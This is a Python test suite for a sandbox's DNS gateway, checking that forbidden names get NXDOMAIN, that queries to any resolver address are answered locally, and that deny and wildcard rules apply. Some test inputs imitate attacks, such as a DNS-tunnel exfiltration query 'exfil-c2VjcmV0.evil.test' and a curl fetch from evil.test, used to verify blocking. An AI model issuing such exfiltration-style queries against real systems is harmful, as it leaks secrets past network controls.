"""Names: the gateway answers them all, and no packet leaves for one that is not allowed."""

import json

from support.marks import both_users

# A resolver client by hand, so that every record type, transport and server address can be asked.
ASK = """
import struct

def question(name, kind, ident=0x1234):
    labels = b"".join(bytes([len(p)]) + p.encode() for p in name.split(".")) + b"\\0"
    return struct.pack(">HHHHHH", ident, 0x0100, 1, 0, 0, 0) + labels + struct.pack(">HH", kind, 1)

def answer(data):
    ident, flags, _, count, _, _ = struct.unpack(">HHHHHH", data[:12])
    at = 12
    while data[at]:
        at += data[at] + 1
    at += 5
    found = []
    for _ in range(count):
        at = at + 2 if data[at] >= 0xC0 else at + data[at:].index(0) + 1
        kind, _, ttl, size = struct.unpack(">HHIH", data[at:at + 10])
        value = data[at + 10:at + 10 + size]
        found.append([kind, ".".join(map(str, value)) if kind == 1 else size])
        at += 10 + size
    return {"id": ident, "code": flags & 15, "answers": found, "response": bool(flags & 0x8000)}

def udp(name, kind=1, server="127.0.0.1", connected=False):
    sock = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
    sock.settimeout(3)
    if connected:
        sock.connect((server, 53))
        sock.send(question(name, kind))
        return answer(sock.recv(4096))
    sock.sendto(question(name, kind), (server, 53))
    data, peer = sock.recvfrom(4096)
    return {**answer(data), "peer": peer[0]}

def tcp(name, kind=1, server="127.0.0.1"):
    sock = socket.create_connection((server, 53), 3)
    text = question(name, kind)
    sock.sendall(struct.pack(">H", len(text)) + text)
    size = struct.unpack(">H", sock.recv(2))[0]
    data = b""
    while len(data) < size:
        data += sock.recv(size - len(data))
    return answer(data)
"""
NXDOMAIN, NOERROR = 3, 0


def synthetic(address):
    first, second = map(int, address.split(".")[:2])
    return first == 198 and second in (18, 19)


@both_users
def test_forbidden_name_is_nxdomain_at_once_and_named_at_the_end(bench, echo):
    done = bench.python("""
start = time.monotonic()
try:
    socket.getaddrinfo("tracker.evil.test", 443)
    result = "resolved"
except socket.gaierror as error:
    result = error.errno == socket.EAI_NONAME
show(result=result, seconds=time.monotonic() - start)
""")
    assert done.lines[0]["result"] is True and done.lines[0]["seconds"] < 0.5, done
    assert "tracker.evil.test" in done.error and "--allow" in done.error, done
    dns = [r for r in done.records if "tracker.evil.test" in json.dumps(r)]
    assert dns and all("NXDOMAIN" in json.dumps(r) for r in dns), done.records


def test_curl_says_could_not_resolve(bench, echo):
    done = bench.run("curl -sS https://evil.test/x")
    assert done.code == 6, done


@both_users
def test_record_types_over_udp_and_tcp(bench, echo):
    done = bench.python(ASK + """
for ask in (udp, tcp):
    show(a=ask("api.test"), aaaa=ask("api.test", 28), https=ask("api.test", 65),
         txt=ask("api.test", 16), mx=ask("api.test", 15), upper=ask("API.Test"),
         other=ask("other.test"), no=ask("evil.test"), no6=ask("evil.test", 28),
         notxt=ask("exfil-c2VjcmV0.evil.test", 16))
""")
    assert len(done.lines) == 2, done
    for seen in done.lines:
        assert all(v["response"] and v["id"] == 0x1234 for v in seen.values())
        (kind, address), = seen["a"]["answers"]
        assert kind == 1 and synthetic(address), seen
        assert seen["upper"]["answers"] == seen["a"]["answers"], "one address for one name"
        assert seen["other"]["answers"] != seen["a"]["answers"]
        for nodata in ("aaaa", "https", "txt", "mx"):
            assert seen[nodata]["code"] == NOERROR and seen[nodata]["answers"] == [], (nodata, seen)
        for no in ("no", "no6", "notxt"):
            assert seen[no]["code"] == NXDOMAIN, (no, seen)
    assert done.lines[0]["a"]["answers"] == done.lines[1]["a"]["answers"]


@both_users
def test_any_server_address_is_answered_by_us(bench, echo):
    """A program that asks 8.8.8.8: the answer is ours and comes from the address that was asked."""
    done = bench.python(ASK + """
show(plain=udp("api.test"), google=udp("api.test", server="8.8.8.8"),
     forbidden=udp("evil.test", server="1.1.1.1"),
     connected=udp("api.test", server="9.9.9.9", connected=True),
     tcp=tcp("api.test", server="8.8.4.4"),
     six=attempt(lambda: udp("api.test", server="2001:4860:4860::8888")))
""")
    seen = done.lines[0]
    assert seen["google"]["answers"] == seen["plain"]["answers"], done
    assert seen["google"]["peer"] == "8.8.8.8", done
    assert seen["connected"]["answers"] == seen["tcp"]["answers"] == seen["plain"]["answers"], done
    assert seen["forbidden"]["code"] == NXDOMAIN, done
    assert isinstance(seen["six"], dict), f"over IPv6: {seen['six']}"
    assert seen["six"]["answers"] == seen["plain"]["answers"], done


def test_garbage_does_not_stop_the_resolver(bench, echo):
    done = bench.python(ASK + """
sock = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
good = question("api.test", 1)
for bad in (b"", b"x", good[:11], good[:20], b"\\xff" * 600, good[:12] + b"\\xc0\\x0c" + good[-4:],
            good[:4] + b"\\0\\x05" + good[6:], bytes([63]) * 500):
    sock.sendto(bad, ("127.0.0.1", 53))
stream = socket.create_connection(("127.0.0.1", 53), 3)
stream.sendall(b"\\xff\\xffabc")
show(**udp("api.test"))
""")
    assert done.lines[0]["code"] == NOERROR and done.lines[0]["answers"], done


def test_localhost_is_the_sandboxs_own(bench, echo):
    done = bench.python(ASK + """
show(names=sorted({a[4][0] for a in socket.getaddrinfo("localhost", 80)}),
     resolv=open("/etc/resolv.conf").read(), hosts=open("/etc/hosts").read())
""")
    assert set(done.lines[0]["names"]) <= {"127.0.0.1", "::1"}, done
    resolv = done.lines[0]["resolv"].splitlines()
    servers = [x.split()[1] for x in resolv if x.startswith("nameserver")]
    assert servers == ["127.0.0.1"], done


def test_wildcards_and_deny_rules_decide_names(bench, echo):
    bench.config(grants=[], rules=[
        {"name": "no", "hosts": ["bad.wide.test"], "action": "deny"},
        {"name": "wide", "hosts": ["*.wide.test"], "action": "allow"}])
    done = bench.python(ASK + """
names = ("a.wide.test", "a.b.wide.test", "wide.test", "bad.wide.test", "xwide.test")
show(codes=[udp(name)["code"] for name in names])
""")
    assert done.lines[0]["codes"] == [0, 0, 3, 3, 3], done


def test_names_are_recorded(bench, echo):
    done = bench.run("getent ahostsv4 api.test; getent ahostsv4 evil.test; true")
    texts = [json.dumps(r) for r in done.records]
    assert any("api.test" in t and "198.18." in t for t in texts), texts
    assert any(all(w in t for w in ("evil.test", "NXDOMAIN", "name_not_allowed")) for t in texts)
